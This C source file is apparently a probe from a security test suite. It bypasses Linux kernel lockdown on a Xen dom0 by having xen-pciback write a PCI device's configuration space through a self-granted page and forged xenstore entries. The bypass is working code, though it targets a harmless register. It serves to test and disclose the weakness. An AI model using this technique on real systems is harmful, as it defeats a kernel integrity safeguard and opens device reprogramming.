// SPDX-License-Identifier: GPL-2.0-only
/*
 * L-PCIBACK: write a device's configuration space by the kernel's hand.
 *
 * The kernel's lockdown keeps root from configuration space, because what
 * stands there decides what a device does. xen-pciback writes it for the domain
 * that borrows the device, and whoever stands in xenstore is that domain: here
 * dom0 itself, with a page that dom0 grants to itself. The register is one that
 * changes nothing, and that pciback lets any borrower write.
 *
 * The request is in the page before pciback maps it: in a PVH dom0 the page has
 * no memory here once it is mapped there.
 */
#include "lasting.h"
#include "store.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include <xen/evtchn.h>
#include <xen/gntalloc.h>
#include <xen/io/pciif.h>

#define FRONTEND "/local/domain/0/rogue/pci"
#define BACKEND  "/local/domain/0/backend/pci/0/0"

#define CACHE_LINE_SIZE 0x0c
#define HEADER_TYPE     0x0e
#define INTERRUPT_PIN   0x3d

/* ---- the device ---- */

static char device[sizeof("0000:00:00.0")];

static const char *path_of(const char *name, const char *file)
{
    static char path[100];

    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%.12s/%s", name, file);
    return path;
}

static uint8_t config_byte(const char *name, uint64_t at)
{
    uint8_t byte = 0xff;

    read_bytes(path_of(name, "config"), &byte, sizeof(byte), at);
    return byte;
}

/* No bridge, without a driver, and with an interrupt, which pciback wants. */
static bool is_free(const char *name)
{
    return strlen(name) == sizeof(device) - 1 &&
           !(config_byte(name, HEADER_TYPE) & 0x7f) &&
           config_byte(name, INTERRUPT_PIN) &&
           access(path_of(name, "driver"), F_OK);
}

static void write_file(const char *path, const char *word)
{
    if ( !write_word(path, word) )
        note_node_error(errno);
}

/* Give a device to pciback, unless it has one. */
static bool seize_device(void)
{
    DIR *devices = opendir("/sys/bus/pci/devices");
    struct dirent *entry;

    while ( devices && !*device && (entry = readdir(devices)) )
        if ( is_free(entry->d_name) )
            snprintf(device, sizeof(device), "%.12s", entry->d_name);
    if ( devices )
        closedir(devices);

    write_file(path_of(device, "driver_override"), "pciback");
    write_file("/sys/bus/pci/drivers_probe", device);
    return *device && !access(path_of(device, "driver"), F_OK);
}

/* ---- the borrower ---- */

static uint32_t grant_page(void **page)
{
    struct ioctl_gntalloc_alloc_gref grant = { .flags = GNTALLOC_FLAG_WRITABLE,
                                               .count = 1 };
    const int driver = open("/dev/xen/gntalloc", O_RDWR | O_CLOEXEC);

    if ( driver < 0 || ioctl(driver, IOCTL_GNTALLOC_ALLOC_GREF, &grant) )
        return 0;

    *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, driver,
                 (off_t)grant.index);
    return *page == MAP_FAILED ? 0 : grant.gref_ids[0];
}

/* pciback takes the device's function over, and counts devices from 0. */
static void request_write(struct xen_pci_sharedinfo *page, uint8_t value)
{
    page->op = (struct xen_pci_op){
        .cmd = XEN_PCI_OP_conf_write,
        .devfn = (uint32_t)(device[sizeof(device) - 2] - '0'),
        .offset = CACHE_LINE_SIZE,
        .size = 1,
        .value = value,
    };
    page->flags = XEN_PCIF_active;
}

static bool attach_backend(uint32_t grant, int port)
{
    char grant_text[16], port_text[16];
    const char *const frontend[] = {
        "backend",    BACKEND,       "backend-id",    "0",
        "pci-op-ref", grant_text,    "event-channel", port_text,
        "magic",      XEN_PCI_MAGIC, "state",         "3",
        NULL
    };
    const char *const backend[] = { "frontend", FRONTEND, "frontend-id", "0",
                                    "online",   "1",      "num_devs",    "1",
                                    "dev-0",    device,   "state",       "1",
                                    NULL };

    snprintf(grant_text, sizeof(grant_text), "%u", grant);
    snprintf(port_text, sizeof(port_text), "%d", port);

    return store_write_all(FRONTEND, frontend) &&
           store_write_all(BACKEND, backend) &&
           store_shows(BACKEND "/state", "4");
}

static enum outcome borrow_device(void)
{
    struct ioctl_evtchn_bind_unbound_port listen = { .remote_domain = 0 };
    const int events = open("/dev/xen/evtchn", O_RDWR | O_CLOEXEC),
              port = ioctl(events, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &listen);
    struct ioctl_evtchn_notify notify = { .port = (unsigned int)port };
    const uint8_t before = config_byte(device, CACHE_LINE_SIZE);
    void *page = NULL;
    const uint32_t grant = grant_page(&page);

    if ( port < 0 || !grant )
        return cannot_try("no event channel, or no page to grant");

    request_write(page, (uint8_t)~before);
    if ( !attach_backend(grant, port) )
        return strcmp(store_read(BACKEND "/state"), "1") ||
                       access("/sys/bus/xen-backend/devices/pci-0-0", F_OK)
                   ? cannot_try("pciback does not offer the device")
                   : effect(false, "the kernel lets pciback serve nobody");

    ioctl(events, IOCTL_EVTCHN_NOTIFY, &notify);
    for ( unsigned int i = 0;
          i < 1000 && config_byte(device, CACHE_LINE_SIZE) == before; i++ )
        rest(10);
    if ( config_byte(device, CACHE_LINE_SIZE) == before )
        return cannot_try("pciback serves us, and has not written");

    return effect(true, "configuration space of %s written by pciback", device);
}

ATTACK_OWN_BOOT("L-PCIBACK",
                "have xen-pciback write configuration space for dom0")
{
    if ( access("/sys/bus/pci/drivers/pciback", F_OK) )
        return cannot_try("the kernel has no xen-pciback");
    if ( !serve_store() )
        return cannot_try("xenstore cannot be served");
    if ( !seize_device() )
        return cannot_try("pciback takes no device%s%s", *device ? ": " : "",
                          device);

    return run_lasting(borrow_device);
}
